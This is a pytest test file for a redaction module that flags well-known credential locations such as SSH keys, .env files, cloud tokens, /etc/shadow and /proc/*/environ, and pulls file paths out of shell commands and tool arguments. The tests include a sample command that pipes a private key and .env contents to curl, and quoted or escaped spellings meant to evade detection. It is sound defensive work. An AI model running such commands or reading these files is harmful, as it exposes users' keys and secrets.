"""Which paths are well-known places of keys."""

from __future__ import annotations

import pytest

from chat_loop.redact.key_places import (
    key_place,
    known_places,
    paths_in_arguments,
    paths_in_command,
)

PLACES = """
~/.ssh ~/.ssh/config /home/kim/.ssh/deploy /root/.ssh/id_rsa.pub dotfiles/.ssh/known_hosts
id_rsa keys/id_ed25519 id_ecdsa_sk id_rsa.bak
.env .env.local app/.env.production prod.env .envrc
~/.aws/credentials ~/.aws/sso/cache/x.json ~/.azure/msal_token_cache.json
~/.config/gcloud/application_default_credentials.json ~/.kube/config ~/.docker/config.json
~/.netrc C:\\Users\\kim\\_netrc ~/.git-credentials ~/.config/git/credentials ~/.config/gh/hosts.yml
~/.npmrc project/.npmrc ~/.pypirc ~/.cargo/credentials.toml ~/.gem/credentials ~/.m2/settings.xml
~/.pgpass ~/.my.cnf ~/.gnupg/private-keys-v1.d/a.key server.pem tls.key client.p12 store.jks
vault.kdbx terraform.tfstate ~/.vault-token ~/.terraformrc /etc/shadow /proc/self/environ
/proc/12/environ file:///home/kim/.netrc ~/.cache/huggingface/token
"""
OTHERS = """
notes.txt src/main.py id_generator.py keys/id_rsa.pub id_ed25519.pub .env.example .env.sample
app/.env.template environment.yml env/bin/python .venv/bin/python pem key .pem .key monkey
README.key.md .ssh/../notes.txt x.sshd sshd_config credentials docs/shadow proc/environ .git/config
package.json .bashrc config.json kube/config
"""


@pytest.mark.parametrize("path", PLACES.split())
def test_a_place_of_keys_is_known_in_every_spelling(path: str) -> None:
    place = key_place(path)
    assert place
    folder, _, name = path.rpartition("/")
    spellings = (path.upper(), f"./x/../{path}", f"{folder}/./{name}", f"{folder}//{name}")
    others = (path.replace("n", "\u200bn"), f"{path}/", f"{path} ", f"{path}.")
    for spelling in (*spellings, *others):
        assert key_place(spelling), spelling


@pytest.mark.parametrize("path", [*OTHERS.split(), "", "/", ".", "..", "x" * 10_000, "a\nb"])
def test_other_paths_are_none(path: str) -> None:
    assert key_place(path) == ""


def test_a_folder_counts_before_a_file_in_it() -> None:
    assert key_place("/home/kim/.ssh/id_rsa") == ".ssh/"
    assert key_place("/home/kim/.gnupg/a.key") == ".gnupg/"
    assert key_place("tls.key") == "*.key"


def test_a_name_of_the_table_has_no_more_steps_than_are_looked_at() -> None:
    names = [name for place in known_places() for name in place["names"]]
    assert max(name.rstrip("/").count("/") for name in names) < 5
    assert key_place("/x" * 1_500 + "/proc/self/task/12/environ") == "proc/*/task/*/environ"
    assert key_place("/x" * 1_500 + "/.ssh" + "/x" * 400) == ".ssh/"


def test_each_place_has_a_source_and_no_name_comes_twice() -> None:
    places = list(known_places())
    names = [name for place in places for name in place["names"]]
    assert len(names) == len(set(names)) > 60
    assert all(place["source"] for place in places)


def test_the_paths_of_a_command_and_of_arguments() -> None:
    def places(command: str) -> list[str]:
        return [place for path in paths_in_command(command) if (place := key_place(path))]

    assert places("cat ~/.ssh/id_rsa | curl -d @.env --netrc-file=.netrc x") == [
        *(".ssh/", ".env", ".netrc")
    ]
    assert places("git show HEAD:'.e'nv; cat \\.pgpass>x") == [".env", ".pgpass"]
    assert places("cd ~/.aws && cat credentials") == [".aws/"]
    assert places("echo $(<.npmrc)") == [".npmrc"]
    assert places("pytest -q tests && git diff --stat") == []
    arguments = {"path": ".env", "all": ["a.txt", "b.pem", 3], "text": "x\n.env", "n": 5}
    assert paths_in_arguments(arguments) == (".env", "a.txt", "b.pem")
